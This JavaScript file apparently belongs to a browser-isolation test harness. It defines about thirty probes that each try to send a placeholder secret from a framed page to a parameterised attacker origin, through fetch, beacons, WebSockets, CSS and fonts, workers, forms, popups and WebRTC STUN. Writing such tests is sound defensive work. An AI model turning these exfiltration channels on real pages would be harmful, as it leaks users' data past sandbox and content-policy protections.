// Ways out of a frame. Each probe tries to send something to the attacker; where it gets through, the attacker counts
// a hit of the probe's name. A probe resolves when the browser is done with it, whatever the outcome.

/** @param {{ origin: string, stunUrl: string }} attacker */
globalThis.leakProbes = (attacker) => {
  const secret = "data=secret-of-the-view";
  const url = (probe, ending = "txt") => `${attacker.origin}/hit/${probe}.${ending}?${secret}`;

  /** Puts an element into the document and waits until it has loaded or failed. */
  const settle = (element, parent = document.body) =>
    new Promise((resolve) => {
      for (const name of ["load", "error", "loadeddata", "close"])
        element.addEventListener(name, () => resolve(name));
      parent.append(element);
    });
  const make = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
  const style = (textContent) => settle(make("style", { textContent }), document.head);
  const rendered = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50)));

  return {
    fetch: () => fetch(url("fetch")),
    "fetch-keepalive": () =>
      fetch(url("fetch-keepalive"), { mode: "no-cors", keepalive: true, method: "POST" }),
    xhr: () =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = resolve;
        request.open("GET", url("xhr"));
        request.send();
      }),
    websocket: () =>
      new Promise((resolve) => {
        const socket = new WebSocket(url("websocket").replace("http", "ws"));
        socket.onclose = socket.onerror = socket.onopen = resolve;
      }),
    eventsource: () =>
      new Promise((resolve) => {
        const source = new EventSource(url("eventsource", "events"));
        source.onmessage = source.onerror = () => resolve(source.close());
      }),
    beacon: () => navigator.sendBeacon(url("beacon"), secret),
    img: () => settle(make("img", { src: url("img", "gif") })),
    script: () => settle(make("script", { src: url("script", "js") })),
    "dynamic-import": () => import(url("dynamic-import", "js")),
    stylesheet: () =>
      settle(make("link", { rel: "stylesheet", href: url("stylesheet", "css") }), document.head),
    "css-import": () => style(`@import "${url("css-import", "css")}";`),
    "css-background": () =>
      style(`body { background: url("${url("css-background", "gif")}") }`).then(rendered),
    font: async () => {
      await style(`@font-face { font-family: stolen; src: url("${url("font", "woff2")}") }`);
      await document.fonts.load("1em stolen");
    },
    "svg-image": () => {
      const svg = `<svg><image href="${url("svg-image", "gif")}"/></svg>`;
      document.body.append(document.createRange().createContextualFragment(svg));
      return rendered();
    },
    media: () => settle(make("video", { src: url("media", "mp4") })),
    object: () => settle(make("object", { data: url("object", "page") })),
    "frame-by-url": () => settle(make("iframe", { src: url("frame-by-url", "page") })),
    "frame-by-srcdoc": () =>
      settle(make("iframe", { srcdoc: `<img src="${url("frame-by-srcdoc", "gif")}">` })).then(rendered),
    prefetch: () => settle(make("link", { rel: "prefetch", href: url("prefetch") }), document.head),
    preload: () =>
      settle(make("link", { rel: "preload", as: "image", href: url("preload", "gif") }), document.head),
    modulepreload: () =>
      settle(make("link", { rel: "modulepreload", href: url("modulepreload", "js") }), document.head),
    "blob-worker": () => {
      const program = `fetch("${url("blob-worker")}").finally(() => postMessage("done"))`;
      const worker = new Worker(URL.createObjectURL(new Blob([program])));
      return new Promise((resolve) => {
        worker.onmessage = worker.onerror = resolve;
      });
    },
    "shared-worker": () => startedBy((file) => new SharedWorker(file), "shared-worker"),
    "service-worker": () => startedBy((file) => navigator.serviceWorker.register(file), "service-worker"),
    "form-to-frame": () => {
      const frame = make("iframe", { name: "sink" });
      document.body.append(frame);
      const form = make("form", { action: url("form-to-frame", "page"), method: "post", target: "sink" });
      document.body.append(form);
      form.submit();
      return rendered();
    },
    "form-to-popup": () => {
      const form = make("form", { action: url("form-to-popup", "page"), target: "_blank" });
      form.append(make("input", { name: "data", value: "secret-of-the-view" }));
      document.body.append(form);
      form.submit();
      return rendered();
    },
    popup: () => {
      window.open(url("popup", "page"));
      return rendered();
    },
    "anchor-to-popup": () => {
      const anchor = make("a", { href: url("anchor-to-popup", "page"), target: "_blank" });
      document.body.append(anchor);
      anchor.click();
      return rendered();
    },
    webrtc: () => gather(attacker.stunUrl),
    "webrtc-in-a-frame": () =>
      settle(make("iframe", { srcdoc: `<script>(${gather})("${attacker.stunUrl}")</script>` })).then(
        rendered,
      ),
  };

  /** A worker whose file the page's own origin serves, told what to fetch. */
  function startedBy(start, probe) {
    return start(`worker.js?${new URLSearchParams({ fetch: url(probe) })}`);
  }
};

/** Looks for ways through a network, which sends UDP packets that no policy of a page is about. */
async function gather(stunUrl) {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: stunUrl }] });
  const gathered = new Promise((resolve) => {
    connection.onicecandidate = ({ candidate }) => candidate ?? resolve();
  });
  connection.createDataChannel("way out");
  await connection.setLocalDescription(await connection.createOffer());
  await gathered;
}
